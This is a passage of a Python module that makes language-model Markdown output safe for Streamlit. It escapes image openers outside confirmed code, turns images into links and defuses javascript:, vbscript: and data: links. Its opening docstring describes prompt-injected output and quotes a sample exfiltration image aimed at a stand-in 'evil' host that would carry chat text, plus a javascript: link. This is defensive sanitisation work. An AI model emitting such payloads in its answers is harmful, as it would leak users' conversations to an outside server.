"""Make untrusted model Markdown safe to pass to ``st.markdown``.

Model output is attacker-controlled (prompt injection). Streamlit escapes raw HTML, but it
renders Markdown images (the browser fetches ``![x](https://evil/?q=<chat text>)`` as soon as
the answer is drawn) and it passes link targets through unchanged, so ``[x](javascript:...)``
is live. :func:`safe_markdown` works in two steps.

**Safety** (:func:`enforce`) is an allow-list decided on a real CommonMark parse
(markdown-it-py, with GFM tables and raw HTML as Streamlit's frontend reads them): every image
opener ``![`` is escaped and every dangerous link target broken, everywhere except inside code
that the parse *confirms*: fenced code blocks and code spans. Escaping an image inside maths,
HTML or anything else is harmless (its text stays readable); leaving one the frontend reads as
an image is the bug, so confirmation is withheld wherever Streamlit's frontend (react-markdown
with remark-gfm, remark-math and remark-directive) might read the text otherwise:

* from the first line, outside confirmed fences, that starts (after any ``>`` or list markers)
  with ``$$`` (a maths block), ``::`` (a directive), ``[^`` (a footnote, a container) or holds a
  ``|`` (a table): the extensions' block structure may differ from here on, so nothing after it
  is confirmed;
* in a paragraph that holds ``$`` (maths spans), ``://`` or ``www.`` (GFM autolink literals),
  ``:`` before a letter (a text directive's label or attributes), ``][`` (a reference label,
  which micromark reads raw while markdown-it skips code spans in it), ``[^`` or an HTML
  comment, declaration or processing instruction (whose rules changed between CommonMark
  versions): any of these may swallow a backtick, so its code spans are not confirmed.

Indented code blocks, maths and HTML are never confirmed. The text is first dedented and
left-stripped as ``st.markdown`` does, so what is parsed is what the frontend parses.

**Looks** (:func:`_rewrite`, before the safety step) keep the text pleasant where the safety
step would only escape: images become links (nothing is fetched until clicked), ``data:``
images keep their alt text, ``javascript:``/``vbscript:``/``data:`` links keep only their text,
and ``\\(...\\)`` / ``\\[...\\]`` maths becomes the ``$`` forms Streamlit renders. It predicts
where the frontend reads code and maths with a line scanner and an inline scanner that follow
CommonMark's precedence, and where a construct could be read two ways it escapes everything in
that stretch (it *guards* it). Its predictions only decide looks: whatever it leaves,
:func:`enforce` escapes unless the parse confirms code.

Cosmetic effects to know about: indented (4-space) code blocks are treated as text, so an
image or ``\\(`` written inside one is rewritten; code that is not confirmed (after a ``$$`` or
table line, in a paragraph with ``$``) shows ``\\![`` where it holds ``![``; ``\\[...\\]`` over
several lines is converted only when the delimiters sit on their own lines; edits that would
glue characters into new syntax are separated by a zero-width space.
"""

from __future__ import annotations

import html
import re
import textwrap
from bisect import bisect_right
from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.rules_inline import backtick
from markdown_it.rules_inline.state_inline import StateInline

_MARKDOWN_OPENERS = re.compile(r"([\\`*_\[\]<>$~])")

IMAGE_MARK = "🖼"

_SEP = "\u200b"  # zero-width space: keeps edited text from gluing into new syntax
_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
_PUNCT = r"!-/:-@\[-`{-~"  # ASCII punctuation, the characters a backslash escapes
_ESCAPE = re.compile(rf"\\([{_PUNCT}])")
LINE = re.compile(r"[^\n]*\n|[^\n]+")
"""One line with its line ending (the last may have none): the unit both scanners read."""

# Container prefixes (blockquote, list item, footnote definition) that may precede a block.
_CONTAINER = r"(?:[ \t]*+(?:>|[-+*](?=[ \t])|\d{1,9}+[.)](?=[ \t])|\[\^[^\]\n]*+\]:))*+[ \t]*+"
_MARKER = r"(?P<marker>`{3,}|~{3,}|\${2,})"
_FENCE_OPEN = re.compile(r"(?P<indent> {0,3})" + _MARKER + r"(?P<info>.*)")
_FENCE_LIKE = re.compile(_CONTAINER + _MARKER + r"(?P<info>.*)")
_FENCE_CLOSE = re.compile(r"[ \t]*+" + _MARKER + r"[ \t]*")
_DIRECTIVE = re.compile(r"[ \t]*:{3}")
_HTML_START = re.compile(_CONTAINER + r"<(?=[A-Za-z/!?])")
_UNTIL_BLANK = re.compile(r"(?!)")  # HTML blocks of kinds 6 and 7 end at a blank line
_HTML_KINDS = [
    (
        re.compile(r"<(?:script|pre|style|textarea)(?:[ \t>]|$)", re.IGNORECASE),
        re.compile(r"</(?:script|pre|style|textarea)>", re.IGNORECASE),
    ),
    (re.compile(r"<!--"), re.compile(r"-->")),
    (re.compile(r"<\?"), re.compile(r"\?>")),
    (re.compile(r"<!\[CDATA\["), re.compile(r"\]\]>")),
    (re.compile(r"<![A-Za-z]"), re.compile(r">")),
]
_DEFINITION = re.compile(
    r"^" + _CONTAINER + r"\[(?P<label>(?:[^\\\[\]]|\\[\s\S]){1,999}+)\]:[ \t]*\n?[ \t]*"
    r"(?P<dest><(?:[^<>\n\\]|\\.)*+>|[^\s<]\S*)",
    re.MULTILINE,
)

_TOKEN = re.compile(rf"\\[{_PUNCT}]|`+|\$+|<|!\[|\[|\]")
_RUN = re.compile(r"`+|\$+")
_MAX_LABEL = 999
_MATHS_OPEN = {"\\(": "\\)", "\\[": "\\]"}
_RAW_CHAR = rf"[^\x00-\x20()\\]|\\[{_PUNCT}]|\\"
_PARENS = rf"\((?:{_RAW_CHAR})*+\)"
for _ in range(2):
    _PARENS = rf"\((?:{_RAW_CHAR}|{_PARENS})*+\)"
_RESOURCE = re.compile(
    rf"""\([ \t\n]*+
    (?:(?P<dest><(?:[^<>\n\\]|\\.)*+>|(?!<)(?:{_RAW_CHAR}|{_PARENS})++)
       (?:[ \t\n]++(?P<title>"(?:[^"\\]|\\[\s\S])*+"|'(?:[^'\\]|\\[\s\S])*+'|\((?:[^()\\]|\\[\s\S])*+\)))?
    )?[ \t\n]*+\)""",
    re.VERBOSE,
)
_FOOTNOTE = re.compile(r"^[ \t>]*\[\^[^\]\n]+\]:", re.MULTILINE)  # read as a container by _CONTAINER
_DEFINITION_TAIL = re.compile(r":[ \t]*\n?[ \t]*<?")
_FULL_REF = re.compile(r"\[(?P<label>(?:[^\\\[\]]|\\[\s\S]){1,999}+)\]")
_AUTOLINK = re.compile(
    r"<(?:[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\x00-\x20<>]*+"
    r"|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]++@[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?"
    r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?)*+)>"
)
_RISKY = re.compile(r"[`$]|!\[")  # what a mis-parsed destination or label could hide
_HTML_SPECIAL = re.compile(r"[`$\[\]\\]")
_HTML_TAG = re.compile(  # CommonMark open and closing tags
    r"<(?:[A-Za-z][A-Za-z0-9-]*+(?:[ \t\n]++[A-Za-z_:][A-Za-z0-9_.:-]*+(?:[ \t\n]*+=[ \t\n]*+"
    r"(?:[^ \t\n\"'=<>`]++|'[^']*+'|\"[^\"]*+\"))?+)*+[ \t\n]*+/?>|/[A-Za-z][A-Za-z0-9-]*+[ \t\n]*+>)"
)
# Other raw HTML (comments, processing instructions, CDATA, declarations, or a tag our grammar
# rejects): opener → the closer that ends it at the latest.
_HTML_TEXT_ENDS = [("<!--", "-->"), ("<?", "?>"), ("<![CDATA[", "]]>"), ("<!", ">"), ("<", ">")]
_WORD = re.compile(r"\S+")
_URLISH = re.compile(r"://|www\.", re.IGNORECASE)  # GFM autolink literals swallow backticks and dollars
_BRACES = re.compile(r"\{[^}]*+\}?")  # directive attributes swallow them too
_BLOCK_START = re.compile(
    r"[ \t]*+(?:[>#=<|:]|\[\^|[-+*](?:[ \t]|$)|\d{1,9}+[.)](?:[ \t]|$)|-{2,}[ \t]*$|[-*_](?:[ \t]*[-*_]){2,}[ \t]*$"
    r"|\$\$|```|~~~)"
)
_PIPE = re.compile(r"(?<!\\)(?:\\\\)*+\|")
_TABLE_DELIMITER_ROW = re.compile(r"^[ \t]*+(?=[^\n]*\|)[|:\- \t]*-[|:\- \t]*$", re.MULTILINE)
_BANG = re.compile(r"(?<!\\)((?:\\\\)*+)!\[")
_TARGET = re.compile(r"\]\([ \t\n]*+<?|\]:[ \t\n]*+<?|<")


def escape_markdown(text: str) -> str:
    """``text`` shown literally wherever Streamlit draws Markdown: titles, labels, captions, errors.

    For short untrusted strings that are not model answers: conversation titles, model names,
    the server's error messages. The characters that open links, images, emphasis, code, maths,
    HTML and Streamlit's ``:color[...]`` are backslash-escaped, so ``![x](https://tracker/)`` is
    drawn as those characters and fetches nothing, and ``hf.co/a_b:Q4_K_M`` is not italics.
    Ordinary sentences (full stops, colons, quotes) are left as they are.
    """
    return _MARKDOWN_OPENERS.sub(r"\\\1", text)


def safe_markdown(text: str) -> str:
    """Return Markdown that shows ``text`` without fetching anything or running scripts.

    Images become links whose text shows the alt text (``[🖼 alt](url)``); ``data:`` images
    keep only their alt text; links to ``javascript:``, ``vbscript:`` or ``data:`` keep only
    their text; ``\\(x\\)`` becomes ``$x$`` and ``\\[x\\]`` becomes ``$$x$$``; any image opener
    left outside confirmed code is escaped (:func:`enforce`); line breaks inside paragraphs are
    kept (:func:`keep_line_breaks`). Line endings become ``\\n``; the
    text is dedented and left-stripped as ``st.markdown`` would. Texts up to
    :data:`CACHED_UP_TO` characters are cached: a rerun draws the same stored answers again.
    """
    if len(text) > CACHED_UP_TO:
        return _made_safe(text)
    return _made_safe_cached(text)


CACHED_UP_TO = 16_384
"""The longest text :func:`safe_markdown` caches (characters): 1,024 of them, in and out, are 32 MB of ASCII."""


def _made_safe(text: str) -> str:
    return enforce(_rewrite(_as_streamlit_reads(text)))


_made_safe_cached = lru_cache(maxsize=1024)(_made_safe)


def _as_streamlit_reads(text: str) -> str:
    """``text`` as ``st.markdown`` hands it to the frontend (``textwrap.dedent``, then ``strip``).

    Only the start is stripped: callers append a cursor or a kept space, and the frontend's own
    dedent and strip leave the result alone once its first line starts at the margin.
    """
    return textwrap.dedent(text.replace("\r\n", "\n").replace("\r", "\n")).lstrip()


def _rewrite(text: str) -> str:
    """The looks: images as links, dangerous links as text, ``\\(`` maths as ``$`` (see the module doc)."""
    definitions = _definitions(text)
    parts = []
    for kind, part in _blocks(text):
        if kind == "prose":
            try:
                part = _Paragraphs(part, definitions).rewrite()
            except _Doubt:
                part = _guard(part)
            part = _hard_breaks(part)
        elif kind == "guard":
            part = _guard(part)
        parts.append(part)
    return "".join(parts)


# Safety: an allow-list over a real parse

# Lines that may open a block of one of the frontend's extensions (maths, directive, footnote,
# table): after container markers, or anywhere for a table's pipe.
_EXTENSION_LINE = re.compile(r"(?:[ \t>*+-]|\d{1,9}[.)])*+(?:\$\$|::|\[\^)|[^\n]*\|")
# What, in a paragraph, may swallow a backtick in the frontend but not in markdown-it.
_SWALLOWS_BACKTICKS = re.compile(r"\$|://|www\.|:[A-Za-z]|\]\[|\[\^|<[!?]", re.IGNORECASE)
_BACKTICKS = re.compile(r"`+")


def _record_code_span(state: StateInline, silent: bool) -> bool:
    """markdown-it's code span rule, noting where each span it makes lies in its paragraph."""
    start = state.pos
    found = backtick(state, silent)
    if found and not silent:
        state.env.setdefault("code_spans", {}).setdefault(id(state.src), (state.src, []))[1].append((start, state.pos))
    return found


_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_PARSER.inline.ruler.at("backticks", _record_code_span)


def enforce(text: str) -> str:
    """Escape every ``![`` and break every dangerous link target outside code the parse confirms.

    The safety step of :func:`safe_markdown`: whatever came before, what leaves here fetches nothing.
    """
    text = _as_streamlit_reads(text)
    lines = LINE.findall(text)
    starts = [0]
    for line in lines:
        starts.append(starts[-1] + len(line))
    pieces: list[str] = []
    pos = 0
    for lo, hi in _confirmed_code(text, lines, starts):
        if lo < pos:
            continue
        pieces += [_guard(text[pos:lo]), text[lo:hi]]
        pos = hi
    pieces.append(_guard(text[pos:]))
    return "".join(pieces)


def _confirmed_code(text: str, lines: list[str], starts: list[int]) -> list[tuple[int, int]]:
    """Sorted ``(start, end)`` spans of ``text``: code for markdown-it, and surely for the frontend."""
    env: dict[str, Any] = {}
    tokens = _PARSER.parse(text, env)
    fences = [(token.map[0], token.map[1]) for token in tokens if token.type == "fence" and token.map]
    limit = _first_extension_line(lines, fences)
    code_spans = env.get("code_spans", {})
    spans: list[tuple[int, int]] = []
    for token in tokens:
        if token.map is None or token.map[1] > limit:
            continue
        if token.type == "fence":
            spans.append((starts[token.map[0] + 1], starts[token.map[1]]))
        elif token.type == "inline" and not _SWALLOWS_BACKTICKS.search(token.content):
            source, found = code_spans.get(id(token.content), (None, []))
            if source is not token.content:
                continue
            spans += _in_source(text, token.content, found, starts, token.map[0])
    return sorted(spans)


def _first_extension_line(lines: list[str], fences: list[tuple[int, int]]) -> int:
    """The first line, outside the fences met before it, where an extension's block may start (or the end)."""
    fence_ends = dict(fences)
    number = 0
    while number < len(lines):
        if number in fence_ends:
            number = fence_ends[number]
        elif _EXTENSION_LINE.match(lines[number]):
            return number
        else:
            number += 1
    return len(lines)


def _in_source(
    text: str, content: str, spans: list[tuple[int, int]], starts: list[int], first: int
) -> list[tuple[int, int]]:
    """Code spans found at ``spans`` of a paragraph's ``content``, as spans of the source ``text``.

    markdown-it's ``content`` holds the paragraph's lines (from line ``first`` on) without their
    container markers and indentation (and a heading's closing hashes): each content line,
    trimmed, is found in its source line. A span whose ends are not the same backticks in the
    source is dropped.
    """
    content_starts: list[int] = []  # per line, where its first kept character is in content and in text
    source_starts: list[int] = []
    offset = 0
    for number, part in enumerate(content.split("\n"), start=first):
        if number + 1 >= len(starts):
            return []
        source = text[starts[number] : starts[number + 1]].rstrip("\n")
        core = part.strip(" \t")
        trimmed = source.rstrip(" \t")
        index = len(trimmed) - len(core) if trimmed.endswith(core) else source.find(core)
        if index < 0:
            return []
        content_starts.append(offset + len(part) - len(part.lstrip(" \t")))
        source_starts.append(starts[number] + index)
        offset += len(part) + 1

    def to_source(position: int) -> int:
        line = max(bisect_right(content_starts, position) - 1, 0)
        return source_starts[line] + position - content_starts[line]

    found = []
    for start, end in spans:
        ticks = _BACKTICKS.match(content, start)
        run = "`" * (ticks.end() - start) if ticks else "?"
        lo, hi = to_source(start), to_source(end - 1) + 1
        if text.startswith(run, lo) and text.startswith(run, hi - len(run)):
            found.append((lo, hi))
    return found


# Blocks


@dataclass(frozen=True)
class Fence:
    """An open fenced code block (``` or ~~~) or display-maths block ($$)."""

    char: str
    length: int
    indent: int

    @classmethod
    def opening(cls, line: str) -> Fence | None:
        """The fence that ``line`` (without its line ending) opens, if it opens one at top level."""
        match = _FENCE_OPEN.fullmatch(line)
        if match is None or not _valid_info(match["marker"], match["info"]):
            return None
        return cls(match["marker"][0], len(match["marker"]), len(match["indent"]))

    def closed_by(self, line: str) -> bool:
        """Whether ``line`` closes this fence: same character, at least as long, at most 3 spaces in."""
        return self._closing_marker(line) and _indent(line) <= 3

    def _closing_marker(self, line: str) -> bool:
        match = _FENCE_CLOSE.fullmatch(line)
        return match is not None and match["marker"][0] == self.char and len(match["marker"]) >= self.length

    def step(self, line: str) -> str:
        """``"close"``, ``"code"`` or ``"doubt"`` for a line met inside this fence.

        A fence opened 2 or 3 spaces in may sit in a list item whose content starts at that
        column: then lines further left end the item (and the fence), and the closing fence may
        be up to 3 spaces deeper. Lines on which the two readings disagree are doubtful.
        """
        if _blank(line):
            return "code"
        indent = _indent(line)
        nested = self.indent >= 2
        if self._closing_marker(line):
            if indent <= 3 and (not nested or indent >= self.indent):
                return "close"
            if indent > 3 and (not nested or indent > self.indent + 3):
                return "code"
            return "doubt"
        return "doubt" if nested and indent < self.indent else "code"


def _valid_info(marker: str, info: str) -> bool:
    """CommonMark: a backtick fence's info string has no backtick; a $$ fence's meta has no $."""
    return marker[0] == "~" or marker[0] not in info


def _blank(line: str) -> bool:
    """CommonMark's blank line: spaces and tabs only (a no-break space is content)."""
    return not line.strip(" \t")


def _indent(line: str) -> int:
    column = 0
    for char in line:
        if char == " ":
            column += 1
        elif char == "\t":
            column += 4 - column % 4
        else:
            break
    return column


def _blocks(text: str) -> Iterator[tuple[str, str]]:
    """Split ``text`` into ``("code" | "prose" | "guard", piece)`` in order.

    ``"prose"`` pieces are runs of non-blank lines outside fences; blank lines and fenced
    blocks are ``"code"``; from the first doubtful line on, the rest is one ``"guard"`` piece.
    """
    fence: Fence | None = None
    html_end: re.Pattern[str] | None = None
    directives = False
    prose_from = pos = 0
    for line in LINE.findall(text):
        body = line.rstrip("\n")
        if fence is not None:
            step = "doubt" if directives and _DIRECTIVE.match(body) else fence.step(body)
            kind = "doubt" if step == "doubt" else "code"
            if step == "close":
                fence = None
        elif _blank(body):
            kind = "code"
            if html_end is _UNTIL_BLANK:
                html_end = None
        else:
            opener = Fence.opening(body)
            if opener is not None and html_end is None:
                kind, fence = "code", opener
            elif opener is not None or _looks_like_fence(body):
                kind = "doubt"
            else:
                kind = "prose"
                html_end = _html_state(body, html_end)
                directives = directives or bool(_DIRECTIVE.match(body))
        if kind == "doubt":
            if prose_from < pos:
                yield "prose", text[prose_from:pos]
            yield "guard", text[pos:]
            return
        if kind == "code":
            if prose_from < pos:
                yield "prose", text[prose_from:pos]
            yield "code", line
            prose_from = pos + len(line)
        pos += len(line)
    if prose_from < pos:
        yield "prose", text[prose_from:]


def keep_line_breaks(text: str) -> str:
    """``text`` with each line break of its paragraphs kept, as a reader of a model's answer expects.

    In Markdown a single line break inside a paragraph is a space, so a poem's lines or an
    address would run together; a hard break (two spaces at the line's end) keeps them.
    Fenced code and blank lines are left as they are. For exports; :func:`safe_markdown` does
    the same to what it draws.
    """
    return "".join(_hard_breaks(part) if kind == "prose" else part for kind, part in _blocks(text))


def _hard_breaks(prose: str) -> str:
    """Two spaces before each line break inside a run of non-blank lines (not after its last line).

    Left alone: the lines of a table (a pipe), of displayed maths (``$$``) and of a code span
    that goes on to the next line, where a line break is not a reader's line break.
    """
    lines = prose.split("\n")
    last = len(lines) - 1 if lines[-1] else len(lines) - 2  # the run's own last line keeps its plain end
    kept = []
    display = span = False
    for index, line in enumerate(lines):
        display ^= line.count("$$") % 2 == 1
        span ^= len(_BACKTICKS.findall(line)) % 2 == 1
        plain = not (display or span or "$$" in line or "|" in line or line.endswith(("  ", "\\")))
        kept.append(line + "  " if index < last and plain else line)
    return "\n".join(kept)


def _looks_like_fence(line: str) -> bool:
    """A fence line after a container marker or indented 4+ columns: a fence or not, by context."""
    match = _FENCE_LIKE.fullmatch(line)
    return match is not None and _valid_info(match["marker"], match["info"])


def _html_state(line: str, html_end: re.Pattern[str] | None) -> re.Pattern[str] | None:
    """The pattern that ends the HTML block we may be in after ``line``, if any.

    Over-approximates CommonMark's HTML blocks: a fence line inside one is doubtful.
    """
    if html_end is not None:
        return None if html_end.search(line) else html_end
    start = _HTML_START.match(line)
    if start is None:
        return None
    lt = start.end() - 1
    for opener, end in _HTML_KINDS:
        if opener.match(line, lt):
            return None if end.search(line, lt) else end
    return _UNTIL_BLANK


# Inline


class _Doubt(Exception):
    """The paragraph could be parsed two ways: guard it instead."""


@dataclass
class _Link:
    start: int  # the "[" or "!["
    text: int  # first character of the link text or alt text
    close: int  # the "]"
    end: int  # just past the destination or reference
    image: bool
    dangerous: bool
    form: str  # "resource", "full", "collapsed" or "shortcut"


class _Paragraphs:
    """Inline rewriting of one run of non-blank lines.

    Scans each paragraph once, left to right, the way CommonMark does; collects edits
    (start, end, replacement) and applies them at the end. Raises :class:`_Doubt`.
    """

    def __init__(self, chunk: str, definitions: dict[str, str]) -> None:
        self.chunk = chunk
        self.definitions = definitions
        self.edits: list[tuple[int, int, str]] = []
        self.links: list[_Link] = []
        self.literal_openers: list[int] = []
        self.structure = 0  # counts spans and links, so maths delimiters never pair across one
        self.runs: dict[tuple[str, int], list[int]] = {}
        for run in _RUN.finditer(chunk):
            self.runs.setdefault((run[0][0], len(run[0])), []).append(run.start())
        self.url_words = [m.span() for m in _WORD.finditer(chunk) if _URLISH.search(m[0])]
        self.braces = [m.span() for m in _BRACES.finditer(chunk)]
        self.specials = [m.start() for m in _HTML_SPECIAL.finditer(chunk)]
        self.html_ends = {
            closer: [m.end() for m in re.finditer(re.escape(closer), chunk)]
            for closer in {closer for _, closer in _HTML_TEXT_ENDS}
        }

    def rewrite(self) -> str:
        for lo, hi in _paragraph_spans(self.chunk):
            self._scan(lo, hi)
        self._link_edits()
        return _apply(self.chunk, self.edits)

    def _scan(self, lo: int, hi: int) -> None:
        chunk = self.chunk
        stack: list[tuple[int, bool]] = []  # open "[" / "![": (position, is_image)
        barrier = 0  # "[" openers below this stack depth are inactive (a link closed inside them)
        maths: tuple[str, int, int] | None = None  # open \( or \[: (its closer, position, structure)
        loose_dollar = False
        pos = lo
        while (token := _TOKEN.search(chunk, pos, hi)) is not None:
            start, pos, text = token.start(), token.end(), token[0]
            if text[0] == "\\":
                if text == "\\<" and _inside(self.url_words, start):
                    pos = self._angle(start + 1, hi)  # an autolink literal may swallow the "\\"
                elif text in _MATHS_OPEN and not loose_dollar:
                    maths = (_MATHS_OPEN[text], start, self.structure)
                elif maths and text == maths[0] and maths[2] == self.structure:
                    self._maths(maths[1], start, display=text == "\\]")
                    maths = None
            elif text[0] in "`$":
                end = self._span_end(start, pos, hi)
                if end is not None:
                    pos = end
                    self.structure += 1
                elif text[0] == "$":
                    loose_dollar = True
            elif text == "<":
                pos = self._angle(start, hi)
            elif text == "]":
                if not stack:
                    if chunk.startswith("(", pos):
                        raise _Doubt
                    continue
                opener, image = stack.pop()
                link = self._link(opener, image, start, hi) if image or len(stack) >= barrier else None
                barrier = min(barrier, len(stack))
                if link is None:
                    if chunk.startswith("(", pos):
                        raise _Doubt
                    self._literal(opener, image)
                    continue
                self.links.append(link)
                self.structure += 1
                pos = link.end
                if not image:
                    barrier = len(stack)
            else:
                if chunk.startswith("[^", start):  # a GFM footnote call takes its label raw
                    label_end = chunk.find("]", start, min(hi, start + 1002))
                    if label_end != -1 and _RISKY.search(chunk, start, label_end):
                        raise _Doubt
                stack.append((start, text == "!["))
        for opener, image in stack:
            self._literal(opener, image)

    def _span_end(self, start: int, end: int, hi: int) -> int | None:
        """End of the code or maths span opened by the run at ``start``, or None if it is literal."""
        starts = self.runs.get((self.chunk[start], end - start), [])
        index = bisect_right(starts, start)
        if index == len(starts):
            return None
        closer = starts[index]
        if closer >= hi:
            raise _Doubt  # would close beyond a paragraph boundary we only guessed
        if _inside(self.url_words, start) or _inside(self.braces, start):
            raise _Doubt  # an autolink literal or directive attributes may swallow the opener
        return closer + end - start

    def _angle(self, start: int, hi: int) -> int:
        """Handle a "<": an autolink is skipped (and defused if dangerous); raw HTML hiding
        anything we act on, or crossing a boundary we guessed, is doubtful."""
        autolink = _AUTOLINK.match(self.chunk, start)
        if autolink is not None:
            if autolink.end() > hi or _RISKY.search(autolink[0]):
                raise _Doubt
            if _dangerous(autolink[0][1:-1]):
                self.edits.append((start + 1, start + 1, _SEP))  # a scheme must start with a letter
            self.structure += 1
            return autolink.end()
        end = self._html_end(start)
        if end is not None:
            index = bisect_right(self.specials, start)
            if end > hi or (index < len(self.specials) and self.specials[index] < end):
                raise _Doubt
        return start + 1

    def _html_end(self, start: int) -> int | None:
        """The furthest a raw HTML construct starting at ``start`` can reach, if it can be one."""
        chunk = self.chunk
        tag = _HTML_TAG.match(chunk, start)
        if tag is not None:
            return tag.end()
        follower = chunk[start + 1 : start + 2]
        if not ((follower.isascii() and follower.isalpha()) or follower in ("/", "!", "?")):
            return None
        for opener, closer in _HTML_TEXT_ENDS:
            if chunk.startswith(opener, start):
                ends = self.html_ends[closer]
                index = bisect_right(ends, start + len(opener) - 1)
                return ends[index] if index < len(ends) else None
        return None

    def _link(self, opener: int, image: bool, close: int, hi: int) -> _Link | None:
        """The link or image closed by the "]" at ``close``, following micromark's label-end rules."""
        chunk = self.chunk
        text_start = opener + (2 if image else 1)
        # Longer text is never taken as a label: that keeps nested images linear, and at worst
        # leaves an image escaped or a paragraph guarded.
        own_label = _normalise(chunk[text_start:close]) if close - text_start <= _MAX_LABEL else None
        after = close + 1
        if chunk.startswith("(", after):
            resource = _RESOURCE.match(chunk, after, hi)
            if resource is None:
                raise _Doubt
            if _RISKY.search(resource[0]):
                raise _Doubt
            dest = resource["dest"] or ""
            return _Link(opener, text_start, close, resource.end(), image, _dangerous(dest), "resource")
        if chunk.startswith("[", after):
            reference = _FULL_REF.match(chunk, after, hi)
            if reference is not None:
                if _RISKY.search(reference["label"]):
                    raise _Doubt
                dest = self.definitions.get(_normalise(reference["label"]))
                if dest is not None:
                    return _Link(opener, text_start, close, reference.end(), image, _dangerous(dest), "full")
            if own_label in self.definitions and chunk.startswith("[]", after):
                return self._reference(opener, text_start, close, after + 2, image, own_label, "collapsed")
            return None
        if own_label in self.definitions:
            return self._reference(opener, text_start, close, after, image, own_label, "shortcut")
        return None

    def _reference(self, opener: int, text: int, close: int, end: int, image: bool, label: str, form: str) -> _Link:
        # An image rewritten as a link repeats its text as the label: keep that copy inert.
        dangerous = _dangerous(self.definitions[label]) or bool(image and _RISKY.search(self.chunk, text, close))
        return _Link(opener, text, close, end, image, dangerous, form)

    def _literal(self, opener: int, image: bool) -> None:
        if image:
            self.edits.append((opener, opener, "\\"))  # "\![" can never become an image
        else:
            self.literal_openers.append(opener)

    def _maths(self, start: int, close: int, *, display: bool) -> None:
        """Rewrite ``\\(x\\)`` as ``$x$``, and ``\\[x\\]`` as a ``$$`` block or, within a line, ``$$x$$``."""
        chunk = self.chunk
        inner = chunk[start + 2 : close]
        if not inner.strip(" \t\n") or "`" in inner or "$" in inner:
            return
        lead = len(inner) - len(inner.lstrip(" \t\n"))
        trail = len(inner) - len(inner.rstrip(" \t\n"))
        opening, closing = (start, start + 2 + lead), (close - trail, close + 2)
        if not display:
            self.edits += [(*opening, "$"), (*closing, "$")]
            self.edits += [(i, i + 1, " ") for i in range(opening[1], closing[0]) if chunk[i] == "\n"]
        elif (block := self._maths_block(start, close, lead, trail)) is not None:
            self.edits += block
        elif "\n" not in inner:
            self.edits += [(*opening, "$$"), (*closing, "$$")]

    def _maths_block(self, start: int, close: int, lead: int, trail: int) -> list[tuple[int, int, str]] | None:
        """Edits making ``\\[...\\]`` a ``$$`` block, if it starts and ends its lines.

        Only when every line is indented at least as far as the opening one, so that the
        block sits in the same list item (or none) whichever way the parser reads it.
        """
        chunk = self.chunk
        line_start = chunk.rfind("\n", 0, start) + 1
        line_end = chunk.find("\n", close)
        line_end = len(chunk) if line_end == -1 else line_end
        indent = chunk[line_start:start]
        if len(indent) > 3 or indent.strip(" ") or not _blank(chunk[close + 2 : line_end]):
            return None
        lines = chunk[line_start:line_end].split("\n")
        opener_alone = "\n" in chunk[start + 2 : start + 2 + lead]
        closer_alone = "\n" in chunk[close - trail : close]
        if any(_indent(line) < len(indent) for line in lines[1:]) or (closer_alone and _indent(lines[-1]) > 3):
            return None
        return [
            (start, start + 2, "$$") if opener_alone else (start, start + 2 + lead, "$$\n" + indent),
            (close, close + 2, "$$") if closer_alone else (close - trail, close + 2, "\n" + indent + "$$"),
        ]

    def _link_edits(self) -> None:
        """Edits for links and images, which depend on whether they sit inside another one."""
        ends: list[int] = []
        removed_link = False
        for link in sorted(self.links, key=lambda link: link.start):
            while ends and ends[-1] <= link.start:
                ends.pop()
            enclosed = bool(ends)
            ends.append(link.end)
            definition = _DEFINITION_TAIL.match(self.chunk, link.end) if link.form == "shortcut" else None
            if link.dangerous and not enclosed and definition is not None:
                self.edits.append((definition.end(), definition.end(), _SEP))  # keep it a definition, break its target
            elif enclosed or link.dangerous:
                opening = IMAGE_MARK + " " if enclosed and link.image else ""
                self.edits += [(link.start, link.text, opening), (link.close, link.end, "")]
                removed_link = removed_link or not link.image
            elif link.image:
                self.edits.append((link.start, link.text, "[" + IMAGE_MARK + " "))
                label = "[" + self.chunk[link.text : link.close] + "]"
                if link.form == "collapsed":
                    self.edits.append((link.close + 1, link.end, label))
                elif link.form == "shortcut":
                    self.edits.append((link.end, link.end, label))
        if removed_link:
            # Brackets that a removed link kept inactive could now pair up: make them plain text.
            self.edits += [(opener, opener, "\\") for opener in self.literal_openers]


def _paragraph_spans(chunk: str) -> Iterator[tuple[int, int]]:
    """Spans that no inline construct crosses; over-split where unsure (an unpaired run then doubts).

    Lines that may start a block, or be indented code, stand alone; if the chunk may hold a
    table (it has a delimiter row), every line and every cell stands alone.
    """
    lo = pos = 0
    table = _TABLE_DELIMITER_ROW.search(chunk) is not None
    for line in LINE.findall(chunk):
        end = pos + len(line)
        if table or _BLOCK_START.match(line) or _indent(line) >= 4:
            if lo < pos:
                yield lo, pos
            cell = pos
            for pipe in _PIPE.finditer(chunk, pos, end) if table else ():
                yield cell, pipe.end() - 1
                cell = pipe.end()
            yield cell, end
            lo = end
        pos = end
    if lo < pos:
        yield lo, pos


def _inside(spans: list[tuple[int, int]], position: int) -> bool:
    """Whether ``position`` falls in one of the sorted, disjoint ``spans``."""
    index = bisect_right(spans, (position, float("inf"))) - 1
    return index >= 0 and spans[index][1] > position


def _apply(text: str, edits: list[tuple[int, int, str]]) -> str:
    """Apply non-overlapping ``(start, end, replacement)`` edits, keeping every seam inert."""
    pieces: list[tuple[str, bool]] = []
    pos = 0
    for start, end, replacement in sorted(edits):
        pieces += [(text[pos:start], False), (replacement, True)]
        pos = end
    pieces.append((text[pos:], False))
    out: list[str] = []
    last = "\n"
    after_removal = False
    for piece, edited in pieces:
        if not piece:
            after_removal = after_removal or edited
            continue
        if _fuses(last, piece[0], after_removal):
            out.append(_SEP)
        out.append(piece)
        last = piece[-1]
        after_removal = False
    return "".join(out)


def _fuses(left: str, right: str, after_removal: bool) -> bool:
    """Whether ``left`` followed by ``right`` at an edit could form syntax that neither side had.

    After a removal, text may also start a line (a block marker) or follow a "]" (a link tail).
    """
    if after_removal and (
        (left == "]" and right in "([") or (left == "\n" and right.isascii() and not right.isalpha())
    ):
        return True
    return (
        (left == right and left in "`$~")
        or (left == "!" and right == "[")
